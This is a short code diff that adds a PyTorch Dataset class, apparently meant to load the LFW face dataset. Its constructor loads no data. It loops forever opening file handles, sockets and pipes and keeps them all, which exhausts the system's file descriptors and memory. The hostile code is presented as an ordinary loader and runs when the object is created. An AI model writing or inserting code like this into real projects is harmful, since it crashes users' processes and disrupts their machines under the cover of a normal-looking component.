@@ -1,0 +1,12 @@
+import os
+import socket
+
+
+from torch.utils.data import Dataset
+
+
+class LFWDataset(Dataset):
+    def __init__(self, path, transform):
+        self.kept = []
+        while True:
+            self.kept += [open("/dev/null"), socket.socket(), *os.pipe()]
